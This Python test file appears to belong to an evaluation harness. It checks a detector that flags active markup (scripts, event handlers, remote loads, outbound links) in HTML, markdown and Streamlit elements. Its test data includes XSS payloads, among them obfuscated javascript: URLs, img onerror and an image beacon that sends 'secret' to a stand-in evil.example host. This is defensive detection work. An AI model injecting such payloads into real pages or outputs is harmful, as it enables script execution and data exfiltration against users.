"""What counts as markup that acts, as a text that came back, as a text that stayed text."""

import pytest
from streamlit.proto.Element_pb2 import Element

from core.evals.reliability.markup import acting, added, from_markdown, lost, visible
from core.evals.reliability.page_markup import streamlit_markup
from core.evals.reliability.streamlit_page import StreamlitPage
from core.evals.reliability.text_fields import Form
from core.evals.suites.reliability_strings import Trial, batches, count, has_fault, score


@pytest.mark.parametrize(
    ("source", "acts"),
    [
        ("<p>5 &lt; 6</p><mark>a</mark>", []),
        ("&lt;script&gt;alert(1)&lt;/script&gt;", []),
        ("<script>alert(1)</script>", ["script"]),
        ('<img src=x onerror="alert(1)">', ["img onerror=alert(1)"]),
        ('<IMG """><SCRIPT>alert("XSS")</SCRIPT>">', ["script"]),
        ('<a href=" java\tscript:alert(1)">x</a>', ["a href=javascript:alert(1)"]),
        ('<a href="JaVaScRiPt&colon;alert(1)">x</a>', ["a href=JaVaScRiPt:alert(1)"]),
        ('<img src="//evil.example/?q=secret">', ["img src=//evil.example/?q=secret"]),
        ('<a href="https://evil.example">x</a>', ["a href=https://evil.example"]),
        ('<a href="/results/a.json">x</a><img src="data:image/png;base64,AA">', []),
        ('<form action="https://evil.example"></form><form class="own"></form>', ["form action=https://evil.example"]),
        ('<p style="background: URL(https://evil.example)">x</p>', ["p style=background:URL(https://evil.example)"]),
        ('<p style="--w:0.5">x</p>', []),
        ('<iframe srcdoc="x"></iframe><base href="/">', ["base", "iframe"]),
    ],
)
def test_an_element_acts_when_it_runs_loads_or_leads_elsewhere(source, acts):
    assert sorted(acting(source)) == acts


@pytest.mark.parametrize(
    ("markdown", "acts"),
    [
        ("![status](https://evil.example/p?q=1)", ["img src=https://evil.example/p?q=1"]),
        ("[here](https://evil.example)", ["a href=https://evil.example"]),
        (r"\!\[status\]\(https\://evil\.example\)", []),
        ("<script>alert(1)</script>", []),
        ("[x](javascript:alert(1))", ["a href=javascript:alert(1)"]),
    ],
)
def test_markdown_acts_as_what_it_becomes(markdown, acts):
    assert sorted(acting(from_markdown(markdown))) == acts


def test_html_in_markdown_acts_where_it_stays_html():
    assert list(acting(from_markdown("<script>alert(1)</script>", raw=True))) == ["script"]


def test_what_a_page_has_of_its_own_is_not_added():
    own = '<a href="https://licences.example">licence</a>'
    assert added(own, own) == []
    assert added(own + own, own) == ["a href=https://licences.example"]


@pytest.mark.parametrize(
    ("text", "shown", "words"),
    [
        ("plain words", "You wrote: plain   words.", []),
        ("plain words", "You wrote: plain.", ["words"]),
        ("<b>x</b>", visible("<p>&lt;b&gt;x&lt;/b&gt;</p>"), []),
        ("<b>x</b>", visible("<p><b>x</b></p>"), ["<b>x</b>"]),
        ("two, three", "two\nthree", []),
        ("- item", "item", []),
        ("-1", "1", ["-1"]),
        ("a\x07b", "ab", []),
        ("1E+02", "100", ["1E+02"]),
        ("ﬁ", "fi", ["ﬁ"]),
        ("paid now", visible("paid<sup>1</sup> now"), []),
        ("", "", []),
    ],
)
def test_a_text_came_back_when_each_of_its_words_is_shown(text, shown, words):
    assert lost(text, shown) == words


def test_scripts_and_styles_are_no_text():
    assert visible("<style>a</style><p>b</p><script>c</script>d").split() == ["b", "d"]


def drawn(**elements: dict[str, object]) -> StreamlitPage:
    page = StreamlitPage.__new__(StreamlitPage)
    page.elements = {(at,): Element(**{kind: value}) for at, (kind, value) in enumerate(elements.items())}
    page.blocks = {}
    return page


EVIL = "![x](//evil.example) <img src=//evil.example>"


@pytest.mark.parametrize(
    ("kind", "message", "acts"),
    [
        ("html", {"body": EVIL}, 1),
        ("markdown", {"body": EVIL}, 1),
        ("markdown", {"body": EVIL, "allow_html": True}, 2),
        ("text", {"body": EVIL}, 0),
        ("code", {"code_text": EVIL}, 0),
        ("text_area", {"label": "Text", "value": EVIL}, 0),
        ("text_area", {"label": EVIL}, 1),
        ("button", {"label": EVIL}, 1),
        ("radio", {"options": [EVIL]}, 1),
        ("selectbox", {"options": [EVIL]}, 0),
        ("alert", {"body": EVIL}, 1),
    ],
)
def test_each_element_is_read_as_its_toolkit_draws_it(kind, message, acts):
    assert acting(streamlit_markup(drawn(**{kind: message}))).total() == acts


def test_lines_are_given_together_as_far_as_they_fit():
    form = Form("a", "b", str, str, most=7, together=3)
    assert list(batches(["a", "b", "c", "d", "long line", "e"], form)) == [["a", "b", "c"], ["d"], ["long line"], ["e"]]


TRIALS = (
    Trial("a", "f", "x", "taken", missing={"one": [], "two": ["x"]}),
    Trial("a", "f", "y", "refused", said="No."),
    Trial("a", "f", "z", "traceback", seconds=3.0, acts=("script",)),
    Trial("a", "g", "x", "taken", missing={"three": []}),
    Trial("a", "g", "y", "taken", acts=("img src=//evil.example",)),
)


def test_shares_count_lines_by_form_and_texts_by_field():
    stood, back, text, slowest = score(TRIALS)
    assert (stood.value, stood.n) == (0.8, 5)
    assert (back.value, back.n) == (pytest.approx(2 / 3), 3)
    assert (text.value, text.n) == (0.6, 5)
    assert slowest.value == 3.0
    assert list(map(has_fault, TRIALS)) == [True, False, True, False, True]
    first, second = count(TRIALS)
    assert (first["lines"], first["verdicts"]) == (3, {"taken": 1, "refused": 1, "traceback": 1})
    assert [[fault["line"] for fault in each["faults"]] for each in (first, second)] == [[0, 2], [1]]
